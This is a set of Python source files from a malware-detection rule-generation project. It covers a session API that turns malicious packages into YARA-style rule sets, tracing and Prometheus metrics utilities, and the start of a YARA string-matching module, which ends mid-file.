    "BehaviorShardPlan",
    "RoundRobinShardPlan",
    "PipelineStage",
    "StageContext",
    "PipelineRunInfo",
    "ClusterStage",
    "PresetClusterStage",
    "PresetGroupsStage",
    "CraftStage",
    "RefineStage",
    "AlignStage",
    "default_stages",
    "group_stages",
    "RuleLLMConfig",
    "GeneratedRule",
    "GeneratedRuleSet",
    "PublishEvent",
    "RulesetRegistry",
    "RulesetVersion",
    "ShardProvenance",
    "merge_shard_rulesets",
    "BoundedQueue",
    "BatchScanResult",
    "RescanDelta",
    "ScanService",
    "ScanServiceConfig",
]
