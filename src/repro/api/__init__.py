"""The unified public API: streaming pipeline sessions wired to the scanner.

``repro.api`` is the one-stop facade over the generate -> publish -> scan
loop.  The pieces:

* :class:`GenerationSession` — feed malicious packages incrementally (in
  batches or from a :class:`~repro.scanserve.scheduler.BoundedQueue`
  stream), run the cluster/craft/refine/align stage chain, and auto-publish
  each resulting rule set into a versioned registry;
* :class:`PipelineStage` / :class:`StageContext` — the pluggable stage
  protocol the session executes (swap a stage to build ablations or custom
  pipelines);
* :class:`~repro.scanserve.service.ScanService` — the scanning side of the
  loop; bind a session to ``service.registry`` and every ``generate`` call
  hot-swaps fresh rules under live scan traffic.

Minimal end-to-end loop::

    from repro.api import GenerationSession, ScanService

    service = ScanService()
    session = GenerationSession(registry=service.registry)
    session.add_batch(first_wave_of_malware)
    session.add_batch(second_wave_of_malware)
    result = session.generate(label="nightly")   # auto-publishes v1
    batch = service.scan_batch(suspect_packages)  # scans with v1

The legacy one-shot entry point :class:`repro.core.pipeline.RuleLLM` is a
thin wrapper over :class:`GenerationSession` and keeps working unchanged.
"""

from repro.api.session import GenerationSession, SessionResult
from repro.api.stages import (
    AlignStage,
    ClusterStage,
    CraftStage,
    PipelineRunInfo,
    PipelineStage,
    PresetClusterStage,
    RefineStage,
    StageContext,
    default_stages,
    group_stages,
)
from repro.core.config import RuleLLMConfig
from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.scanserve.registry import RulesetRegistry, RulesetVersion
from repro.scanserve.scheduler import BoundedQueue
from repro.scanserve.service import BatchScanResult, ScanService, ScanServiceConfig

__all__ = [
    "GenerationSession",
    "SessionResult",
    "PipelineStage",
    "StageContext",
    "PipelineRunInfo",
    "ClusterStage",
    "PresetClusterStage",
    "CraftStage",
    "RefineStage",
    "AlignStage",
    "default_stages",
    "group_stages",
    "RuleLLMConfig",
    "GeneratedRule",
    "GeneratedRuleSet",
    "RulesetRegistry",
    "RulesetVersion",
    "BoundedQueue",
    "BatchScanResult",
    "ScanService",
    "ScanServiceConfig",
]
