"""Exposition: Prometheus text format and CLI renderers.

:func:`render_prometheus` emits text exposition format 0.0.4 — the
plain-text `# HELP` / `# TYPE` / sample-line layout every Prometheus
scraper understands.  Output is deterministic: families sort by name,
children by label values, histogram buckets ascend and end at ``+Inf``.

The span-side helpers (:func:`span_forest`, :func:`format_span_tree`,
:func:`slowest_spans`) turn flat span records — from a tracer ring or a
JSONL sink — into trees and tables for the ``rulellm obs`` commands.
"""

from __future__ import annotations

from typing import Any, Dict, Iterable, List, Optional, Tuple

from repro.obs.metrics import HistogramChild, MetricsRegistry

__all__ = [
    "render_prometheus",
    "span_forest",
    "format_span_tree",
    "slowest_spans",
    "format_metrics_table",
]


def _fmt_value(value: float) -> str:
    if value == int(value) and abs(value) < 1e15:
        return str(int(value))
    return repr(float(value))


def _escape_label(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")

def _escape_help(value: str) -> str:
    return value.replace("\\", "\\\\").replace("\n", "\\n")


def _label_str(names: Tuple[str, ...], values: Tuple[str, ...], extra: str = "") -> str:
    parts = [f'{n}="{_escape_label(v)}"' for n, v in zip(names, values)]
    if extra:
        parts.append(extra)
    if not parts:
        return ""
    return "{" + ",".join(parts) + "}"


def render_prometheus(registry: MetricsRegistry) -> str:
    """Render every family in ``registry`` as Prometheus text format."""
    lines: List[str] = []
    for family in registry.families():
        lines.append(f"# HELP {family.name} {_escape_help(family.help)}")
        lines.append(f"# TYPE {family.name} {family.kind}")
        for key, child in family.samples():
            if isinstance(child, HistogramChild):
                counts, total, total_sum, _max = child.snapshot()
                cumulative = 0
                for i, bound in enumerate(family.buckets):
                    cumulative += counts[i]
                    le = _fmt_value(float(bound))
                    label = _label_str(family.labelnames, key, f'le="{le}"')
                    lines.append(f"{family.name}_bucket{label} {cumulative}")
                cumulative += counts[-1]
                label = _label_str(family.labelnames, key, 'le="+Inf"')
                lines.append(f"{family.name}_bucket{label} {cumulative}")
                label = _label_str(family.labelnames, key)
                lines.append(f"{family.name}_sum{label} {_fmt_value(total_sum)}")
                lines.append(f"{family.name}_count{label} {total}")
            else:
                label = _label_str(family.labelnames, key)
                lines.append(f"{family.name}{label} {_fmt_value(child.value)}")
    return "\n".join(lines) + ("\n" if lines else "")


# -- span rendering ----------------------------------------------------


def span_forest(records: Iterable[Dict[str, Any]]) -> List[Dict[str, Any]]:
    """Arrange flat span records into trees (children sorted by start).

    Returns the list of roots; each node gains a ``children`` list.
    Spans whose parent is missing from ``records`` become roots too, so
    partial sinks still render.
    """
    nodes: Dict[str, Dict[str, Any]] = {}
    for record in records:
        span_id = record.get("span_id")
        if not span_id:
            continue
        node = dict(record)
        node["children"] = []
        nodes[span_id] = node
    roots: List[Dict[str, Any]] = []
    for node in nodes.values():
        parent = nodes.get(node.get("parent_id") or "")
        if parent is not None and parent is not node:
            parent["children"].append(node)
        else:
            roots.append(node)
    def sort_children(node: Dict[str, Any]) -> None:
        node["children"].sort(key=lambda n: (n.get("start", 0.0), n.get("span_id", "")))
        for child in node["children"]:
            sort_children(child)
    roots.sort(key=lambda n: (n.get("start", 0.0), n.get("span_id", "")))
    for root in roots:
        sort_children(root)
    return roots


def _format_attrs(attrs: Dict[str, Any]) -> str:
    if not attrs:
        return ""
    inner = " ".join(f"{k}={attrs[k]}" for k in sorted(attrs))
    return f"  [{inner}]"


def format_span_tree(
    records: Iterable[Dict[str, Any]], trace_id: Optional[str] = None
) -> str:
    """ASCII tree of one trace (or every trace in ``records``)."""
    records = list(records)
    if trace_id is not None:
        records = [r for r in records if r.get("trace_id") == trace_id]
    lines: List[str] = []

    def walk(node: Dict[str, Any], prefix: str, is_last: bool, is_root: bool) -> None:
        if is_root:
            connector, child_prefix = "", ""
        else:
            connector = prefix + ("└─ " if is_last else "├─ ")
            child_prefix = prefix + ("   " if is_last else "│  ")
        status = "" if node.get("status") == "ok" else f" !{node.get('status')}"
        lines.append(
            f"{connector}{node.get('name')}  {node.get('seconds', 0.0) * 1000:.1f}ms"
            f"{status}{_format_attrs(node.get('attrs') or {})}"
        )
        children = node.get("children") or []
        for i, child in enumerate(children):
            walk(child, child_prefix, i == len(children) - 1, False)

    for root in span_forest(records):
        lines.append(f"trace {root.get('trace_id')}")
        walk(root, "", True, True)
        lines.append("")
    return "\n".join(lines).rstrip("\n") + ("\n" if lines else "")


def slowest_spans(
    records: Iterable[Dict[str, Any]], limit: int = 10
) -> List[Dict[str, Any]]:
    """Top spans by duration, descending (stable on name/span_id ties)."""
    ranked = sorted(
        (r for r in records if r.get("span_id")),
        key=lambda r: (-float(r.get("seconds", 0.0)), r.get("name", ""), r.get("span_id", "")),
    )
    return ranked[: max(0, int(limit))]


def format_metrics_table(snapshot: Dict[str, dict]) -> str:
    """Plain-text table of a :meth:`MetricsRegistry.snapshot`."""
    lines: List[str] = []
    for name in sorted(snapshot):
        family = snapshot[name]
        lines.append(f"{name} ({family['type']})")
        for series in family["series"]:
            labels = series.get("labels") or {}
            label_txt = (
                "{" + ",".join(f"{k}={labels[k]}" for k in sorted(labels)) + "}"
                if labels
                else ""
            )
            if "value" in series:
                lines.append(f"  {label_txt or '-':<40} {_fmt_value(series['value'])}")
            else:
                lines.append(
                    f"  {label_txt or '-':<40} count={series['count']} "
                    f"sum={series['sum']}s max={series['max']}s"
                )
    return "\n".join(lines) + ("\n" if lines else "")
