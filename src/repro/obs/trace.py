"""Span-tree tracing with cross-thread and cross-process propagation.

A :class:`Tracer` hands out :class:`Span` context managers.  Spans form a
tree via ``trace_id`` / ``span_id`` / ``parent_id``; the ambient current
span is tracked in a :mod:`contextvars` variable so nesting works across
``await`` points and — via :meth:`Tracer.activate` — across worker
threads that were handed an explicit :class:`SpanContext`.

Process-pool workers cannot share the contextvar, so the span context is
serialized into chunk envelopes as a plain dict; workers build finished
span *records* with :func:`remote_span_record` and ship them back to the
parent, which folds them into its ring buffer with
:meth:`Tracer.absorb`.

Finished spans land in a bounded ring buffer (newest win) and, when a
sink path is configured, are appended as JSON lines.  A full atomic dump
of the ring is available via :meth:`Tracer.export` (crash-safe through
:mod:`repro.utils.atomic`).
"""

from __future__ import annotations

import contextvars
import json
import os
import threading
import time
from collections import deque
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, Iterable, List, Optional

from repro.utils.atomic import atomic_write_text

__all__ = [
    "SpanContext",
    "Span",
    "Tracer",
    "NULL_SPAN",
    "get_tracer",
    "configure_tracing",
    "disable_tracing",
    "remote_span_record",
]


def _new_id(nbytes: int) -> str:
    return os.urandom(nbytes).hex()


@dataclass(frozen=True)
class SpanContext:
    """The propagatable identity of a span: trace id + span id."""

    trace_id: str
    span_id: str

    def to_dict(self) -> Dict[str, str]:
        return {"trace_id": self.trace_id, "span_id": self.span_id}

    @classmethod
    def from_dict(cls, data: Optional[Dict[str, str]]) -> Optional["SpanContext"]:
        if not data:
            return None
        trace_id = data.get("trace_id")
        span_id = data.get("span_id")
        if not trace_id or not span_id:
            return None
        return cls(trace_id=str(trace_id), span_id=str(span_id))


class Span:
    """A single timed operation.  Use as a context manager."""

    __slots__ = (
        "tracer",
        "name",
        "trace_id",
        "span_id",
        "parent_id",
        "attrs",
        "status",
        "start_wall",
        "_start_perf",
        "seconds",
        "_token",
        "_finished",
    )

    def __init__(
        self,
        tracer: "Tracer",
        name: str,
        trace_id: str,
        parent_id: Optional[str],
        attrs: Optional[Dict[str, Any]] = None,
    ) -> None:
        self.tracer = tracer
        self.name = name
        self.trace_id = trace_id
        self.span_id = _new_id(8)
        self.parent_id = parent_id
        self.attrs: Dict[str, Any] = dict(attrs) if attrs else {}
        self.status = "ok"
        self.start_wall = time.time()
        self._start_perf = time.perf_counter()
        self.seconds = 0.0
        self._token: Optional[contextvars.Token] = None
        self._finished = False

    @property
    def context(self) -> SpanContext:
        return SpanContext(trace_id=self.trace_id, span_id=self.span_id)

    def set_attr(self, key: str, value: Any) -> "Span":
        self.attrs[key] = value
        return self

    def __enter__(self) -> "Span":
        self._token = _CURRENT_SPAN.set(self.context)
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        if self._token is not None:
            _CURRENT_SPAN.reset(self._token)
            self._token = None
        if exc_type is not None:
            self.status = "error"
            self.attrs.setdefault("error", f"{exc_type.__name__}: {exc}")
        self.finish()
        return False

    def finish(self) -> None:
        if self._finished:
            return
        self._finished = True
        self.seconds = time.perf_counter() - self._start_perf
        self.tracer._record(self.to_dict())

    def to_dict(self) -> Dict[str, Any]:
        return {
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "start": round(self.start_wall, 6),
            "seconds": round(self.seconds, 6),
            "status": self.status,
            "attrs": self.attrs,
        }


class _NullSpan:
    """Shared do-nothing span returned by a disabled tracer."""

    __slots__ = ()

    context = None

    def set_attr(self, key: str, value: Any) -> "_NullSpan":
        return self

    def __enter__(self) -> "_NullSpan":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        return False

    def finish(self) -> None:
        return None

    def __bool__(self) -> bool:
        return False


NULL_SPAN = _NullSpan()

_CURRENT_SPAN: contextvars.ContextVar[Optional[SpanContext]] = contextvars.ContextVar(
    "repro_obs_current_span", default=None
)


class _Activation:
    """Context manager that installs an explicit span context as ambient."""

    __slots__ = ("_ctx", "_token")

    def __init__(self, ctx: Optional[SpanContext]) -> None:
        self._ctx = ctx
        self._token: Optional[contextvars.Token] = None

    def __enter__(self) -> Optional[SpanContext]:
        self._token = _CURRENT_SPAN.set(self._ctx)
        return self._ctx

    def __exit__(self, exc_type, exc, tb) -> bool:
        if self._token is not None:
            _CURRENT_SPAN.reset(self._token)
            self._token = None
        return False


#: Ring capacity a tracer starts with (and returns to on disable).
DEFAULT_RING_SIZE = 4096


class Tracer:
    """Produces spans, keeps a bounded ring of finished ones, sinks JSONL.

    ``enabled=False`` makes :meth:`span` return the shared
    :data:`NULL_SPAN` — no allocation, no clock reads.
    """

    def __init__(
        self,
        enabled: bool = True,
        ring_size: int = DEFAULT_RING_SIZE,
        sink: Optional[str] = None,
    ) -> None:
        self.enabled = enabled
        self._ring: deque = deque(maxlen=max(1, int(ring_size)))
        self._lock = threading.Lock()
        self._sink_path = Path(sink) if sink else None
        self._sink_handle = None

    # -- span creation -------------------------------------------------

    def span(self, name: str, parent: Optional[SpanContext] = None, **attrs: Any):
        """Start a span.  Parent defaults to the ambient current span."""
        if not self.enabled:
            return NULL_SPAN
        if parent is None:
            parent = _CURRENT_SPAN.get()
        if parent is not None:
            return Span(self, name, parent.trace_id, parent.span_id, attrs)
        return Span(self, name, _new_id(16), None, attrs)

    def span_from(self, carrier: Optional[Dict[str, str]], name: str, **attrs: Any):
        """Start a span parented on a serialized context (or a fresh root)."""
        if not self.enabled:
            return NULL_SPAN
        return self.span(name, parent=SpanContext.from_dict(carrier), **attrs)

    # -- context propagation -------------------------------------------

    def current_context(self) -> Optional[SpanContext]:
        if not self.enabled:
            return None
        return _CURRENT_SPAN.get()

    def carrier(self) -> Optional[Dict[str, str]]:
        """The ambient span context as a plain dict (None when untraced)."""
        ctx = self.current_context()
        return ctx.to_dict() if ctx else None

    def activate(self, ctx: Optional[SpanContext]) -> _Activation:
        """Install ``ctx`` as the ambient parent (for worker threads)."""
        return _Activation(ctx)

    # -- record keeping ------------------------------------------------

    def _record(self, record: Dict[str, Any]) -> None:
        with self._lock:
            self._ring.append(record)
            if self._sink_path is not None:
                if self._sink_handle is None:
                    self._sink_path.parent.mkdir(parents=True, exist_ok=True)
                    self._sink_handle = open(self._sink_path, "a", encoding="utf-8")
                self._sink_handle.write(json.dumps(record, sort_keys=True) + "\n")
                self._sink_handle.flush()

    def absorb(self, records: Iterable[Dict[str, Any]]) -> int:
        """Fold finished span records from a worker process into the ring."""
        count = 0
        for record in records:
            if not isinstance(record, dict) or "span_id" not in record:
                continue
            self._record(record)
            count += 1
        return count

    def spans(self, trace_id: Optional[str] = None) -> List[Dict[str, Any]]:
        with self._lock:
            records = list(self._ring)
        if trace_id is not None:
            records = [r for r in records if r.get("trace_id") == trace_id]
        return records

    def trace_ids(self) -> List[str]:
        seen: Dict[str, None] = {}
        for record in self.spans():
            seen.setdefault(record.get("trace_id", ""), None)
        return [t for t in seen if t]

    def export(self, path: str) -> int:
        """Atomically dump the full ring as JSONL (crash-safe)."""
        records = self.spans()
        text = "".join(json.dumps(r, sort_keys=True) + "\n" for r in records)
        atomic_write_text(Path(path), text)
        return len(records)

    def close(self) -> None:
        with self._lock:
            if self._sink_handle is not None:
                self._sink_handle.close()
                self._sink_handle = None


def remote_span_record(
    carrier: Optional[Dict[str, str]],
    name: str,
    start_wall: float,
    seconds: float,
    attrs: Optional[Dict[str, Any]] = None,
    status: str = "ok",
) -> Optional[Dict[str, Any]]:
    """Build a finished span record in a process-pool worker.

    Workers have no tracer; they time the chunk themselves and emit a
    record parented on the serialized context from the chunk envelope.
    Returns None when the envelope carried no context (tracing off).
    """
    ctx = SpanContext.from_dict(carrier)
    if ctx is None:
        return None
    return {
        "trace_id": ctx.trace_id,
        "span_id": _new_id(8),
        "parent_id": ctx.span_id,
        "name": name,
        "start": round(start_wall, 6),
        "seconds": round(seconds, 6),
        "status": status,
        "attrs": dict(attrs) if attrs else {},
    }


_GLOBAL_TRACER = Tracer(enabled=False)


def get_tracer() -> Tracer:
    """The process-wide tracer.  Disabled (no-op spans) until configured."""
    return _GLOBAL_TRACER


def configure_tracing(
    sink: Optional[str] = None,
    ring_size: Optional[int] = None,
    enabled: bool = True,
) -> Tracer:
    """Enable (or re-point) the global tracer.  Returns it."""
    tracer = _GLOBAL_TRACER
    with tracer._lock:
        tracer.enabled = enabled
        if ring_size is not None:
            tracer._ring = deque(tracer._ring, maxlen=max(1, int(ring_size)))
        if tracer._sink_handle is not None:
            tracer._sink_handle.close()
            tracer._sink_handle = None
        tracer._sink_path = Path(sink) if sink else None
    return tracer


def disable_tracing() -> None:
    """Disable the global tracer and drop its state.

    Also restores the default ring capacity: a ``ring_size`` passed to
    :func:`configure_tracing` must not silently cap the *next* tracing
    session's ring.
    """
    tracer = _GLOBAL_TRACER
    tracer.close()
    with tracer._lock:
        tracer.enabled = False
        tracer._sink_path = None
        tracer._ring = deque(maxlen=DEFAULT_RING_SIZE)
