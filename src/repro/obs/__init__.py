"""repro.obs — zero-dependency observability: tracing, metrics, exposition.

The package is split into three modules:

- :mod:`repro.obs.trace` — span-tree tracing with context propagation
  across threads (contextvars), process-pool chunk dispatch (span context
  serialized into chunk envelopes), and gateway async jobs.
- :mod:`repro.obs.metrics` — a process-wide :class:`MetricsRegistry` of
  labeled counters, gauges, and log-bucketed histograms.
- :mod:`repro.obs.expo` — Prometheus text exposition and CLI-facing
  renderers (span trees, slowest-span tables).

Everything is stdlib-only and off-by-default-cheap: the module-level
tracer starts disabled, and a disabled tracer hands out a shared no-op
span so instrumented call sites cost one method call and a truth test.
"""

from repro.obs.metrics import (
    DEFAULT_BUCKETS,
    Counter,
    Gauge,
    Histogram,
    MetricsRegistry,
    get_registry,
)
from repro.obs.trace import (
    NULL_SPAN,
    Span,
    SpanContext,
    Tracer,
    configure_tracing,
    disable_tracing,
    get_tracer,
    remote_span_record,
)
from repro.obs.expo import (
    format_metrics_table,
    format_span_tree,
    render_prometheus,
    slowest_spans,
    span_forest,
)

__all__ = [
    "DEFAULT_BUCKETS",
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "get_registry",
    "NULL_SPAN",
    "Span",
    "SpanContext",
    "Tracer",
    "configure_tracing",
    "disable_tracing",
    "get_tracer",
    "remote_span_record",
    "format_metrics_table",
    "format_span_tree",
    "render_prometheus",
    "slowest_spans",
    "span_forest",
]
