"""Process-wide metrics registry: labeled counters, gauges, histograms.

Families are registered by name in a :class:`MetricsRegistry`; labeled
children are created lazily on first use (``family.labels(lane="ac")``)
and memoized, so the hot path is a dict lookup plus a locked add.

Histograms use fixed log-spaced buckets (powers of two over a 1 ms
base, same layout the gateway has always exposed) so every scrape of
every family reports identical bucket boundaries and dashboards can
aggregate without re-binning.  Quantiles are estimated by linear
interpolation inside the winning bucket, capping the +Inf bucket at the
observed max.
"""

from __future__ import annotations

import bisect
import threading
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

#: 1ms * 2**k for k in 0..16 — ~1ms to ~65s, then +Inf.
DEFAULT_BUCKETS: tuple[float, ...] = tuple(0.001 * (2 ** k) for k in range(17))

__all__ = [
    "DEFAULT_BUCKETS",
    "Counter",
    "Gauge",
    "Histogram",
    "HistogramChild",
    "MetricsRegistry",
    "get_registry",
]


class _Family:
    """Base for a named metric family with memoized labeled children."""

    kind = "untyped"

    def __init__(self, name: str, help: str, labelnames: Sequence[str] = ()) -> None:
        self.name = name
        self.help = help
        self.labelnames = tuple(labelnames)
        self._children: Dict[Tuple[str, ...], object] = {}
        self._lock = threading.Lock()

    def _child_key(self, labels: Dict[str, str]) -> Tuple[str, ...]:
        if set(labels) != set(self.labelnames):
            raise ValueError(
                f"{self.name}: expected labels {self.labelnames}, got {tuple(labels)}"
            )
        return tuple(str(labels[name]) for name in self.labelnames)

    def labels(self, **labels: str):
        key = self._child_key(labels)
        child = self._children.get(key)
        if child is None:
            with self._lock:
                child = self._children.get(key)
                if child is None:
                    child = self._children[key] = self._new_child()
        return child

    def _default_child(self):
        if self.labelnames:
            raise ValueError(f"{self.name}: labeled family needs .labels(...)")
        return self.labels()

    def _new_child(self):  # pragma: no cover - overridden
        raise NotImplementedError

    def samples(self) -> List[Tuple[Tuple[str, ...], object]]:
        with self._lock:
            return sorted(self._children.items())

    def clear(self) -> None:
        with self._lock:
            self._children.clear()


class _CounterChild:
    __slots__ = ("_value", "_lock")

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters only go up")
        with self._lock:
            self._value += amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


class Counter(_Family):
    kind = "counter"

    def _new_child(self) -> _CounterChild:
        return _CounterChild()

    def inc(self, amount: float = 1.0, **labels: str) -> None:
        (self.labels(**labels) if labels else self._default_child()).inc(amount)


class _GaugeChild:
    __slots__ = ("_value", "_lock")

    def __init__(self) -> None:
        self._value = 0.0
        self._lock = threading.Lock()

    def set(self, value: float) -> None:
        with self._lock:
            self._value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value += amount

    def dec(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value -= amount

    @property
    def value(self) -> float:
        with self._lock:
            return self._value


class Gauge(_Family):
    kind = "gauge"

    def _new_child(self) -> _GaugeChild:
        return _GaugeChild()

    def set(self, value: float, **labels: str) -> None:
        (self.labels(**labels) if labels else self._default_child()).set(value)

    def inc(self, amount: float = 1.0, **labels: str) -> None:
        (self.labels(**labels) if labels else self._default_child()).inc(amount)

    def dec(self, amount: float = 1.0, **labels: str) -> None:
        (self.labels(**labels) if labels else self._default_child()).dec(amount)


class HistogramChild:
    """Fixed-bucket histogram with interpolated quantiles."""

    def __init__(self, buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        bounds = sorted(float(b) for b in buckets)
        if not bounds or any(b <= 0 for b in bounds):
            raise ValueError("bucket bounds must be positive")
        self.bounds = bounds  # upper bounds; an implicit +Inf bucket follows
        self._counts = [0] * (len(bounds) + 1)
        self._total = 0
        self._sum = 0.0
        self._max = 0.0
        self._lock = threading.Lock()

    def observe(self, seconds: float) -> None:
        seconds = max(0.0, float(seconds))
        index = bisect.bisect_left(self.bounds, seconds)
        with self._lock:
            self._counts[index] += 1
            self._total += 1
            self._sum += seconds
            if seconds > self._max:
                self._max = seconds

    @property
    def count(self) -> int:
        with self._lock:
            return self._total

    def snapshot(self) -> Tuple[List[int], int, float, float]:
        """(per-bucket counts incl. +Inf, total, sum, observed max)."""
        with self._lock:
            return list(self._counts), self._total, self._sum, self._max

    def quantile(self, q: float) -> Optional[float]:
        """Interpolated quantile estimate; ``None`` with no observations."""
        if not 0.0 <= q <= 1.0:
            raise ValueError("q must be in [0, 1]")
        with self._lock:
            if self._total == 0:
                return None
            rank = q * self._total
            seen = 0.0
            for index, count in enumerate(self._counts):
                if count == 0:
                    continue
                if seen + count >= rank:
                    upper = (
                        self.bounds[index]
                        if index < len(self.bounds)
                        else self._max  # +Inf bucket: cap at the observed max
                    )
                    lower = self.bounds[index - 1] if index > 0 else 0.0
                    fraction = (rank - seen) / count
                    return lower + (upper - lower) * min(1.0, max(0.0, fraction))
                seen += count
            return self._max


class Histogram(_Family):
    kind = "histogram"

    def __init__(
        self,
        name: str,
        help: str,
        labelnames: Sequence[str] = (),
        buckets: Sequence[float] = DEFAULT_BUCKETS,
    ) -> None:
        super().__init__(name, help, labelnames)
        self.buckets = tuple(buckets)

    def _new_child(self) -> HistogramChild:
        return HistogramChild(self.buckets)

    def observe(self, seconds: float, **labels: str) -> None:
        (self.labels(**labels) if labels else self._default_child()).observe(seconds)


class MetricsRegistry:
    """Name-keyed registry of metric families, get-or-create semantics."""

    def __init__(self) -> None:
        self._families: Dict[str, _Family] = {}
        self._lock = threading.Lock()

    def _get_or_create(self, cls, name: str, help: str, labelnames, **kwargs):
        with self._lock:
            family = self._families.get(name)
            if family is None:
                family = self._families[name] = cls(name, help, labelnames, **kwargs)
                return family
        if not isinstance(family, cls) or family.labelnames != tuple(labelnames):
            raise ValueError(
                f"metric {name!r} re-registered with a different "
                f"type or label set ({family.kind}, {family.labelnames})"
            )
        return family

    def counter(self, name: str, help: str = "", labelnames: Sequence[str] = ()) -> Counter:
        return self._get_or_create(Counter, name, help, labelnames)

    def gauge(self, name: str, help: str = "", labelnames: Sequence[str] = ()) -> Gauge:
        return self._get_or_create(Gauge, name, help, labelnames)

    def histogram(
        self,
        name: str,
        help: str = "",
        labelnames: Sequence[str] = (),
        buckets: Sequence[float] = DEFAULT_BUCKETS,
    ) -> Histogram:
        return self._get_or_create(Histogram, name, help, labelnames, buckets=buckets)

    def families(self) -> List[_Family]:
        with self._lock:
            return [self._families[name] for name in sorted(self._families)]

    def get(self, name: str) -> Optional[_Family]:
        with self._lock:
            return self._families.get(name)

    def reset(self) -> None:
        """Clear all recorded values (families stay registered)."""
        for family in self.families():
            family.clear()

    def snapshot(self) -> Dict[str, dict]:
        """JSON-friendly dump of every family and child."""
        out: Dict[str, dict] = {}
        for family in self.families():
            series = []
            for key, child in family.samples():
                labels = dict(zip(family.labelnames, key))
                if isinstance(child, HistogramChild):
                    counts, total, total_sum, observed_max = child.snapshot()
                    series.append(
                        {
                            "labels": labels,
                            "count": total,
                            "sum": round(total_sum, 6),
                            "max": round(observed_max, 6),
                            "buckets": [
                                {"le": family.buckets[i], "count": counts[i]}
                                for i in range(len(family.buckets))
                                if counts[i]
                            ],
                            "overflow": counts[-1],
                        }
                    )
                else:
                    series.append({"labels": labels, "value": child.value})
            out[family.name] = {
                "type": family.kind,
                "help": family.help,
                "series": series,
            }
        return out


_REGISTRY = MetricsRegistry()


def get_registry() -> MetricsRegistry:
    """The process-wide default registry."""
    return _REGISTRY
