"""String matching and condition evaluation for compiled YARA rules."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.yarax import ast_nodes as ast
from repro.yarax.errors import YaraCompilationError

_WORD_CHARS = re.compile(r"\w")

# escapes that stand for a character class / anchor rather than one literal char
_NONLITERAL_ESCAPES = set("dDwWsSbBAZ0123456789")
_CONTROL_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "f": "\f", "v": "\v", "a": "\a"}


def _parse_quantifier(pattern: str, index: int) -> tuple[int, int] | None:
    """If a quantifier starts at ``index``, return ``(min_repeats, end_index)``."""
    if index >= len(pattern):
        return None
    char = pattern[index]
    if char in "?*+":
        end = index + 1
        if end < len(pattern) and pattern[end] == "?":  # non-greedy
            end += 1
        return (1 if char == "+" else 0), end
    if char == "{":
        closing = pattern.find("}", index)
        if closing == -1:
            return None
        body = pattern[index + 1 : closing].split(",")[0].strip()
        low = int(body) if body.isdigit() else 0
        end = closing + 1
        if end < len(pattern) and pattern[end] == "?":  # non-greedy
            end += 1
        return low, end
    return None


def _skip_group(pattern: str, index: int) -> int:
    """Return the index just past the group opened at ``pattern[index] == '('``."""
    depth = 0
    while index < len(pattern):
        char = pattern[index]
        if char == "\\":
            index += 2
            continue
        if char == "[":
            index = _skip_class(pattern, index)
            continue
        if char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth == 0:
                return index + 1
        index += 1
    return index


def _skip_class(pattern: str, index: int) -> int:
    """Return the index just past the character class at ``pattern[index] == '['``."""
    index += 1
    if index < len(pattern) and pattern[index] == "^":
        index += 1
    if index < len(pattern) and pattern[index] == "]":  # literal ']' first
        index += 1
    while index < len(pattern):
        char = pattern[index]
        if char == "\\":
            index += 2
            continue
        if char == "]":
            return index + 1
        index += 1
    return index


def required_literal_runs(pattern: str) -> list[str]:
    """Best-effort list of literal substrings every match of ``pattern`` contains.

    This drives atom extraction for the prefilter index
    (:mod:`repro.scanserve`): only *top-level* concatenation is inspected, so
    a returned run is provably present in any match.  Alternation at the top
    level, or a pattern made only of classes/groups/wildcards, yields ``[]``
    ("no guaranteed literal").  Soundness over completeness: an empty answer
    is always safe because callers fall back to unconditional evaluation.
    """
    runs: list[str] = []
    current: list[str] = []

    def flush() -> None:
        if current:
            runs.append("".join(current))
            current.clear()

    index = 0
    length = len(pattern)
    while index < length:
        char = pattern[index]
        if char == "|":  # top-level alternation: nothing is required
            return []
        if char == "(":
            index = _skip_group(pattern, index)
            quant = _parse_quantifier(pattern, index)
            if quant is not None:
                index = quant[1]
            flush()
            continue
        if char == "[":
            index = _skip_class(pattern, index)
            quant = _parse_quantifier(pattern, index)
            if quant is not None:
                index = quant[1]
            flush()
            continue
        if char in ".^$":
            index += 1
            quant = _parse_quantifier(pattern, index)
            if quant is not None:
                index = quant[1]
            flush()
            continue
        literal: str | None
        if char == "\\":
            if index + 1 >= length:
                return []
            escape = pattern[index + 1]
            if escape == "x" and index + 3 < length:
                try:
                    literal = chr(int(pattern[index + 2 : index + 4], 16))
                except ValueError:
                    literal = None
                index += 4
            elif escape in _CONTROL_ESCAPES:
                literal = _CONTROL_ESCAPES[escape]
                index += 2
            elif escape in _NONLITERAL_ESCAPES:
                literal = None
                index += 2
            else:
                literal = escape
                index += 2
        else:
            literal = char
            index += 1
        quant = _parse_quantifier(pattern, index)
        if quant is not None:
            min_repeats, index = quant
            if min_repeats == 0:
                flush()  # optional char: keep what came before, drop the char
                continue
            if literal is not None:
                current.append(literal)
            flush()  # repetition count unknown past the first occurrence
            continue
        if literal is None:
            flush()
        else:
            current.append(literal)
    flush()
    return [run for run in runs if run]


@dataclass(frozen=True)
class StringMatch:
    """One occurrence of one string definition in the scanned data."""

    identifier: str
    offset: int
    matched: str


@dataclass
class RuleMatch:
    """The result of one rule matching the scanned data."""

    rule_name: str
    tags: tuple[str, ...] = ()
    meta: dict[str, object] = field(default_factory=dict)
    string_matches: list[StringMatch] = field(default_factory=list)

    @property
    def matched_identifiers(self) -> set[str]:
        return {m.identifier for m in self.string_matches}


class CompiledString:
